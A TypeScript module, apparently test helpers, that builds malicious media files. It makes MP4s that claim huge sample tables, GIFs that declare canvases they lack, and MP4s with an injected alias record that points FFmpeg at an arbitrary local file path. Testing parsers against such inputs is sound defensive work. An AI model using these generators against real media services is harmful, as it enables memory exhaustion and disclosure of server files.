/** Videos that are made to harm whoever reads them. */

/** Position of the content of the first box of a type, anywhere in an MP4. */
function findBox(bytes: Buffer, type: string): number {
  const position = bytes.indexOf(type, 0, "latin1");
  if (position === -1) throw new Error(`The file has no box ${type}.`);
  return position + 4;
}

/** The same file with a table of sample sizes that claims `numSamples` samples of `size` bytes, and their durations. */
export function claimSamples(mp4: Buffer, numSamples: number, size: number): Buffer {
  const claimed = Buffer.from(mp4);
  const sizes = findBox(claimed, "stsz") + 4;
  claimed.writeUInt32BE(size, sizes);
  claimed.writeUInt32BE(numSamples, sizes + 4);
  claimed.writeUInt32BE(numSamples, findBox(claimed, "stts") + 8);
  return claimed;
}

/** A GIF that declares a canvas without having one. */
export function gifOfSize(gif: Buffer, width: number, height: number): Buffer {
  const claimed = Buffer.from(gif);
  claimed.writeUInt16LE(width, 6);
  claimed.writeUInt16LE(height, 8);
  return claimed;
}

/**
 * An MP4 whose samples are, by a Macintosh alias record, in another file. The offsets of the samples stay, so that a
 * reader that follows the alias finds them there.
 */
export function referTo(path: string, mp4: Buffer): Buffer {
  const target = Buffer.from(path.length % 2 === 0 ? path : `${path}\0`, "latin1");
  const record = Buffer.concat([
    // Everything up to the levels: FFmpeg looks only at names of volume and file, which may be empty.
    Buffer.alloc(10 + 1 + 27 + 12 + 1 + 63 + 16),
    Buffer.from([0, 1, 0, 1]),
    Buffer.alloc(16),
    // The absolute path has type 2; type -1 is the end.
    Buffer.from([0, 2, target.length >> 8, target.length & 0xff]),
    target,
    Buffer.from([0xff, 0xff, 0, 0]),
  ]);
  const entry = Buffer.concat([Buffer.alloc(4), Buffer.from("alis\0\0\0\0", "latin1"), record]);
  entry.writeUInt32BE(entry.length, 0);
  // From the entry's size, behind the box's header, version and count.
  const at = findBox(mp4, "dref") + 8;
  const longer = Buffer.concat([mp4.subarray(0, at), entry, mp4.subarray(at + mp4.readUInt32BE(at))]);
  const numAdded = longer.length - mp4.length;
  for (const type of ["moov", "trak", "mdia", "minf", "dinf", "dref"]) {
    const size = findBox(longer, type) - 8;
    longer.writeUInt32BE(longer.readUInt32BE(size) + numAdded, size);
  }
  // Media of its own would be found at the same offsets.
  return longer.fill(0, findBox(longer, "mdat"), longer.indexOf("moov", 0, "latin1") - 4);
}
